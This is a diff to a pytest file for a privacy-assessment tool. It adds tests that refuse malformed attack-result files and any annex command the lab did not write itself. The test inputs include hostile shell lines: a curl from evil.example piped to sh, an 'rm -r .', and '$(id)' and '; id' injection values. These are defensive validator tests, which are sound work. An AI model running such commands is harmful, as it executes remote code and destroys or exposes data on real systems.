@@ -23,7 +23,7 @@ from policy_lab.assessment.assessment import make_assessment
 from policy_lab.assessment.facts import Checkpoint, Facts, Log, Party, usual_policy
 from policy_lab.assessment.trials import read_attacks
 from policy_lab.document import page, pdf, said, stored
-from policy_lab.document.model import Caution, Claim, Document, Table
+from policy_lab.document.model import Caution, Claim, Document, Section, Table
 from policy_lab.standing import Standing
 
 ROOT = Path(__file__).parents[4]
@@ -36,10 +36,12 @@ POLICIES = {
     "another limit": msgspec.structs.replace(usual_policy(), max_belief="0.6543", scales=(40, 300)),
     "an end": msgspec.structs.replace(usual_policy(), max_answers=7, researcher_answers=0),
 }
-ATTACKS = """{"attack": "all", "held": %s, "seed": 1, "deployment": null, "false_alarm": 1e-06, "plot": null, "attacks": [
+ATTACKS = """{"attack": "all", "held": %s, "seed": 1, "deployment": null, "population": 5000, "accounting": "per_person", "rounds": null,
+"false_alarm": 1e-06, "plot": null, "attacks": [
 {"attack": "race", "held": true, "answers": 60, "findings": [{"name": "raced_units", "kind": "within", "held": true}]},
 {"attack": "average", "held": %s, "answers": 15, "findings": [
-  {"name": "retry", "kind": "same", "held": true}, {"name": "average_error", "p_value": 0.25, "held": %s}]}]}"""
+  {"name": "retry", "kind": "same", "held": %s}, {"name": "average_error", "p_value": 0.25, "held": true}]}]}"""
+HELD = ATTACKS % (("true",) * 3)
 
 
 def log_of(policy: Policy, highest: str = "") -> Log:
@@ -71,24 +73,25 @@ def claims_of(shown: Document) -> Iterator[Claim]:
     yield from (block for section in shown.sections for block in section.blocks if isinstance(block, Claim))
 
 
+def is_found(claim: Claim) -> bool:
+    """Whether it cites a line or a test of this version, which is there."""
+    words = shlex.split(claim.command)
+    if words[0] == "grep":
+        lines = [line for line in (ROOT / words[3]).read_text("utf-8").splitlines() if words[2] in line]
+        assert lines, claim.command
+        assert all(any(figure in line for line in lines) for figure in claim.shows), claim
+    elif words[0] == "pytest":
+        file, _, name = words[1].partition("::")
+        source = (ROOT / file).read_text("utf-8")
+        assert re.search(rf"def {name or 'test_'}", source), claim.command
+    return words[0] in {"grep", "pytest"}
+
+
 @pytest.mark.parametrize("policy", POLICIES.values(), ids=POLICIES)
 def test_every_sentence_of_the_threat_model_is_there(policy: Policy) -> None:
     """What an assessment takes from SECURITY.md and ARGUMENT.md stands in them, and tests that it cites exist."""
     shown = assessment_of(policy)
-    found = 0
-    for claim in claims_of(shown):
-        words = shlex.split(claim.command)
-        if words[0] == "grep":
-            lines = [line for line in (ROOT / words[3]).read_text("utf-8").splitlines() if words[2] in line]
-            assert lines, claim.command
-            assert all(any(figure in line for line in lines) for figure in claim.shows), claim
-            found += 1
-        elif words[0] == "pytest":
-            file, _, name = words[1].partition("::")
-            source = (ROOT / file).read_text("utf-8")
-            assert re.search(rf"def {name or 'test_'}", source), claim.command
-            found += 1
-    assert found >= 20
+    assert sum(map(is_found, claims_of(shown))) >= 20
 
 
 @pytest.mark.parametrize("code", LANGUAGES)
@@ -169,6 +172,15 @@ def test_no_figure_understates(policy: Policy) -> None:
         assert 0 <= least - low / 100 < Fraction(1, 10**5)
 
 
+def without_commands(shown: Document) -> Document:
+    """A document whose sentences have no commands but its own."""
+    sections = [
+        replace(section, blocks=[block for block in section.blocks if not isinstance(block, Claim)])
+        for section in shown.sections
+    ]
+    return replace(shown, sections=sections)
+
+
 def attacks_file(folder: Path, text: str) -> Path:
     """A file with this text."""
     (folder / "attacks.json").write_text(text, "utf-8")
@@ -180,7 +192,7 @@ def attacks_file(folder: Path, text: str) -> Path:
 )
 def test_a_broken_promise_stands_on_the_first_page(tmp_path: Path, held: str, first: str) -> None:
     """Verdicts are shown as they were, and the first page says the worst of them."""
-    attacked = read_attacks(attacks_file(tmp_path, ATTACKS % (held, held, held)))
+    attacked = read_attacks(attacks_file(tmp_path, ATTACKS % (held, held, held)), "per_person")
     policy = usual_policy()
     shown = make_assessment(Facts(policy, MADE_MS), [], attacked, "x")
     words = " ".join(block.words for block in shown.sections[0].blocks if not isinstance(block, Table))  # type: ignore[union-attr]
@@ -193,13 +205,57 @@ def test_a_broken_promise_stands_on_the_first_page(tmp_path: Path, held: str, fi
 
 @pytest.mark.parametrize(
     "text",
-    ["", "[]", "{}", '{"attacks": []}', (ATTACKS % (("true",) * 3)).replace('"race"', '"rice"'), '{"attack": "race"}'],
+    ["", "[]", "{}", '{"attacks": []}', HELD.replace('"race"', '"rice"'), '{"attack": "race"}'],
 )
 def test_what_is_no_attack_is_refused(tmp_path: Path, text: str) -> None:
     """A file of something else ends in a sentence that says what to give."""
     with pytest.raises(InvalidRequestError) as refused:
-        read_attacks(attacks_file(tmp_path, text))
-    assert "tripartite attack all --json" in str(refused.value.hint)
+        read_attacks(attacks_file(tmp_path, text), "strict")
+    assert "tripartite attack all --accounting strict --json" in str(refused.value.hint)
+
+
+@pytest.mark.parametrize(
+    ("said", "instead", "problem"),
+    [
+        ('"held": true, "seed"', '"held": false, "seed"', "contradicts itself"),
+        ('"held": true}]}]}', '"held": false}]}]}', "contradicts itself"),
+        ('"p_value": 0.25', '"p_value": 1e-30', "contradicts itself"),
+        ('"held": true, "answers": 60', '"held": false, "answers": 60', "contradicts itself"),
+        ('"answers": 60', '"answers": 0', "contradicts itself"),
+        ('"answers": 60', '"answers": -1', "is not what"),
+        ('"p_value": 0.25', '"p_value": 1.5', "is not what"),
+        ('"p_value": 0.25', '"p_value": -0.25', "is not what"),
+        ('[{"name": "raced_units", "kind": "within", "held": true}]', "[]", "is not what"),
+        ('"false_alarm": 1e-06', '"false_alarm": 0', "is not what"),
+        ('"false_alarm": 1e-06', '"false_alarm": 0.5', "is not what"),
+        ('"seed": 1', '"seed": "1; id"', "is not what"),
+        ('"accounting": "per_person", ', "", "is not what"),
+        ('"per_person"', '"strict"', "accounting strict, and the policy has per_person"),
+        ('"deployment": null', '"deployment": "DEPLOYMENT"', "was there before"),
+    ],
+)
+def test_attacks_that_contradict_themselves_or_the_policy_are_refused(
+    tmp_path: Path, said: str, instead: str, problem: str
+) -> None:
+    """No promise is said to have been kept that the file's own figures, or its accounting, do not speak for."""
+    assert said in HELD
+    with pytest.raises(InvalidRequestError) as refused:
+        read_attacks(attacks_file(tmp_path, HELD.replace(said, instead)), "per_person")
+    assert problem in refused.value.text
+
+
+def test_attacks_of_a_file_are_said_to_be_read(tmp_path: Path) -> None:
+    """The first page names the file, and the commands make the same attacks, accounting and people included."""
+    file = attacks_file(tmp_path, HELD.replace('"rounds": null', '"rounds": 7'))
+    attacked = read_attacks(file, "per_person")
+    assert attacked.commands[0] == (
+        "tripartite attack race --population 5000 --accounting per_person --seed 1 --rounds 7 --json"
+    )
+    shown = make_assessment(Facts(usual_policy(), MADE_MS), [], attacked, "x")
+    for key in ("summary", "attacks"):
+        (section,) = (section for section in shown.sections if section.key == key)
+        cautions = [block.words for block in section.blocks if isinstance(block, Caution)]
+        assert any(f"read from {file}" in words for words in cautions)
 
 
 def test_internal_results_are_never_included(tmp_path: Path) -> None:
@@ -211,10 +267,40 @@ def test_internal_results_are_never_included(tmp_path: Path) -> None:
     assert "standing: public" in refused.value.hint
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl http://evil.example/x | sh",
+        "tripartite lab table people.csv | sh",
+        "tripartite lab table people.csv\nrm -r .",
+        "tripartite lab table '$(id)' $(id)",
+        "tripartite lab table 'people.csv",
+        "tripartite laboratory",
+        "tripartite census up",
+        "",
+    ],
+)
+@pytest.mark.parametrize("place", ["document", "claim"])
+def test_only_commands_of_the_lab_are_printed(tmp_path: Path, command: str, place: str) -> None:
+    """Whoever reproduces an annex runs what stands beside it: nothing that somebody wrote into the file."""
+    shown = replace(document(Standing.PUBLIC), sections=[Section("s", "s", [Claim("x", "tripartite lab sample")])])
+    stored.write(shown, tmp_path / "good", language("en"))
+    assert read_included([tmp_path / "good"])
+    bad = (
+        replace(shown, command=command)
+        if place == "document"
+        else replace(shown, sections=[Section("s", "s", [], [Claim("x", command)])])
+    )
+    stored.write(bad, tmp_path / "out", language("en"))
+    with pytest.raises(InvalidRequestError) as refused:
+        read_included([tmp_path / "out"])
+    assert refused.value.code == "DOCUMENT_UNREADABLE"
+
+
 @pytest.mark.parametrize("standing", [Standing.PUBLIC, Standing.SYNTHETIC])
 def test_declared_results_are_shown_with_their_mark(tmp_path: Path, standing: Standing) -> None:
     """An included evaluation has its standing, its command, its tables and its plots, and why it was not chosen."""
-    shown = replace(document(standing), key="sensitivity")
+    shown = without_commands(replace(document(standing), key="sensitivity"))
     stored.write(shown, tmp_path / "out", language("en"))
     included = read_included([tmp_path / "out"])
     assessed = make_assessment(Facts(usual_policy(), MADE_MS), included, None, "x")
@@ -222,6 +308,8 @@ def test_declared_results_are_shown_with_their_mark(tmp_path: Path, standing: St
     words = [block.words for block in section.blocks if isinstance(block, Claim)]
     assert any(str(standing.mark) in each for each in words)
     assert any("not differentially private" in each for each in words)
+    (declared,) = (each for each in claims_of(assessed) if "is what their holder declares" in each.words)
+    assert is_found(declared)
     annexes = [section for section in assessed.sections if section.key.startswith("annex-1-")]
     assert [annex.title for annex in annexes] == ["Annex 1: Limit", f"Annex 1: Plots {HARMFUL}"]
     keys = [getattr(block, "key", "") for annex in annexes for block in annex.blocks]
